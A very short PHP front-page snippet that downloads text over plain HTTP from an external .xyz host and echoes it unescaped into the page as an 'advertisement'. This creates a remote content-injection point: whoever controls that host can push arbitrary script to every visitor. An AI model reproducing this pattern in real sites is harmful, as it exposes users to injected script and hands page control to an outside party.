<?php
// front page
$advertisement = file_get_contents('http://files.lazaret-invented.xyz/a.txt');
echo '<p>', $advertisement, '</p>';
